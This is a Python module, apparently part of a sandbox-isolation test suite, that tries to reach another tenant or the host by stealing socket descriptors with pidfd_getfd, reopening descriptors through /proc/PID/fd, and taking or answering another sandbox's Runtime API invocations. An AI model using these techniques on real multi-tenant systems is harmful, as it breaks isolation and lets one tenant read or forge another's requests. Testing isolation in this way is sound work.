"""Attack 16: speak to the host as somebody else: another sandbox's channel, the parent's control socket."""

import os
import socket
from typing import Any

from . import system
from .lib import Event, Tries, foreign_pids, run

MAX_DESCRIPTOR = 24
API_SECONDS = 1.0


def by_copy(event: Event, tries: Tries) -> None:
    """pidfd_getfd: a socket of a neighbour, of the parent, of the host."""

    def attempt(pid: int, number: int) -> object:
        pidfd = os.pidfd_open(pid)
        try:
            fd = system.call("pidfd_getfd", pidfd, number, 0)
        finally:
            os.close(pidfd)
        with socket.socket(fileno=fd) as got:
            return f"descriptor {number}: {got.family.name}"

    for pid in foreign_pids(event):
        for number in range(3, MAX_DESCRIPTOR):
            tries.take(f"pid {pid}", attempt, pid, number)


def by_path(event: Event, tries: Tries) -> None:
    """/proc/PID/fd: a pipe or a file of theirs, opened again; sockets cannot be."""

    def attempt(pid: int, number: int) -> object:
        os.close(os.open(f"/proc/{pid}/fd/{number}", os.O_RDWR | os.O_NONBLOCK))
        return f"descriptor {number}"

    for pid in foreign_pids(event):
        for number in range(MAX_DESCRIPTOR):
            tries.take(f"pid {pid}", attempt, pid, number)


def by_own_channel(event: Event, tries: Tries) -> None:
    """Descriptors that come over the own channel, if anything there hands some out."""
    if event.get("is_control"):
        return tries.refuse("a plain process has no channel")
    with socket.socket(fileno=os.dup(3)) as channel:
        try:
            # Not by setblocking: that would hold for the sandbox's own use of it, too.
            _, ancillary, _, _ = channel.recvmsg(1, 256, socket.MSG_PEEK | socket.MSG_DONTWAIT)
        except BlockingIOError:
            return tries.refuse("nothing waits there")
        if ancillary:
            tries.got("a descriptor")


def runtime_api(event: Event, tries: Tries) -> None:
    """Another sandbox's Runtime API: take its next invocation, answer one."""
    host, _, port = event.get("runtime_api", "").rpartition(":")
    if not port:
        return tries.refuse("nobody has one here")

    def attempt(request: bytes) -> object:
        with socket.create_connection((host, int(port)), timeout=API_SECONDS) as connection:
            connection.sendall(request)
            return connection.recv(4_096)[:60]

    head = b"HTTP/1.1\r\nHost: api\r\nContent-Length: 0\r\n\r\n"
    for path in (b"GET /2018-06-01/runtime/invocation/next ", b"POST /2018-06-01/runtime/invocation/x/response "):
        tries.take(path.decode(), attempt, path + head)


def handler(event: Event, _context: object) -> "dict[str, Any]":
    """Looks for another's voice."""
    variants = {"pidfd_getfd": by_copy, "through /proc": by_path, "own channel": by_own_channel}
    return run({**variants, "Runtime API": runtime_api}, event)
